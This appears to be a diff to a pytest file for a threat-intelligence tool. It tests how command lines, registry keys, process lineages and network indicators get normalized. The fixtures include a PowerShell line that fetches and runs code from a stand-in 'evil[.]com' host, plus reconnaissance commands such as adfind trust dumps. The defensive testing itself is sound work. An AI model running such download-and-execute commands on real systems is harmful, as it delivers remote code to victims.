@@ -1,8 +1,11 @@
+from time import process_time
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from ctiforge.observables.values import fold, lineage_names, lower, normalize, process_stem, strict
+from ctiforge.records.observable import TYPES
 
 SAME = [
     ("cmdline", "adfind.exe  -gcb\n -sc trustdmp", "adfind.exe -gcb -sc trustdmp"),
@@ -27,6 +30,18 @@ SAME = [
     ("scheduled_tasks", "\\Microsoft\\Windows\\Job", "microsoft\\windows\\job"),
     ("process_lineage", "C:\\Windows\\WINLOGON.exe → PowerShell", "winlogon.exe -> powershell.exe"),
     ("process_lineage", "a.exe => b.exe", "a.exe -> b.exe"),
+    ("process_lineage", "a.exe -&gt; b.exe", "a.exe>b.exe"),
+    ("process_lineage", "a.exe -\\> b.exe", "a.exe ––> b.exe"),
+    ("process_lineage", "<redacted>.exe -> cmd.exe", "<redacted>.exe > cmd.exe"),
+    ("process_lineage", "a.exe > cmd.exe /c dir > out.txt", "a.exe -> cmd.exe"),
+    ("process_lineage", "/usr/bin/python3 /tmp/x.py => bash -c id", "python3 -> bash"),
+    ("process_lineage", "Microsoft Word -> cmd.exe (PID 12)", "microsoft word -> cmd"),
+    ("registry", "[HKLM\\Software\\X]", "HKLM/Software/X"),
+    ("registry", "HKLM:\\Software\\X /v Foo", "HKLM\\Software\\X\\Foo"),
+    ("registry", 'Set-ItemProperty -Path "HKCU:\\A\\B" -Name C -Value 1', "HKCU\\A\\B\\C"),
+    ("cmdline", "echo %userdomain%\\*%computername%\\*\\*%username%", "echo %userdomain%*%computername%**%username%"),
+    ("cmdline", "irm evil[.]com/Ab.php | IEX", "IRM EVIL.com/Ab.php | iex"),
+    ("cmdline", "cmd.exe/c DIR", "cmd.exe/c dir"),
     ("network_indicators", "hXXps://Evil[.]com/", "https://evil.com"),
     ("network_indicators", "evil[dot]com", "evil(.)com"),
     ("hunt_queries", "DeviceEvents\n| where A == 1", "DeviceEvents | where A==1"),
@@ -46,6 +61,9 @@ DIFFERENT = [
     ("cmdline", "c^ur^l x", "curl x"),
     ("registry", "HKLM\\Software\\X", "HKCU\\Software\\X"),
     ("registry", "HKLM\\Software\\X", "HKLM\\Software\\XY"),
+    ("registry", "HKLM\\Software\\Foo -Bar\\X", "HKLM\\Software\\Foo"),
+    ("registry", "HKLM\\Tasks\\{GUID}", "HKLM\\Tasks{GUID}"),
+    ("cmdline", "del %TEMP%\\*.log", "del %TEMP%*.log"),
     ("process_lineage", "a.exe -> b.exe", "b.exe -> a.exe"),
     ("hunt_queries", "where Name has 'A'", "where Name has 'a'"),
     ("services", "svc", "svc.exe"),
@@ -93,6 +111,15 @@ def test_lower_keeps_the_length(text: str) -> None:
     assert len(lower(text)) == len(text)
 
 
-@pytest.mark.parametrize("piece", ["\\", "\\ ", " ", "<http://", "[", "&", "\n> "])
+@pytest.mark.parametrize("piece", ["\\", "\\ ", " ", "<http://", "[", "&", "\n> ", "\\*"])
 def test_folding_is_linear_in_hostile_text(piece: str) -> None:
     assert len(fold(piece * 50_000).text) <= len(piece) * 50_000
+
+
+@pytest.mark.parametrize("type_", TYPES)
+@pytest.mark.parametrize("piece", ["=", "a.", "- ", "> ", 'reg add "', "a /v b "])
+def test_keys_are_linear_in_hostile_text(type_: str, piece: str) -> None:
+    started = process_time()
+    normalize(type_, piece * 4_000)
+
+    assert process_time() - started < 1
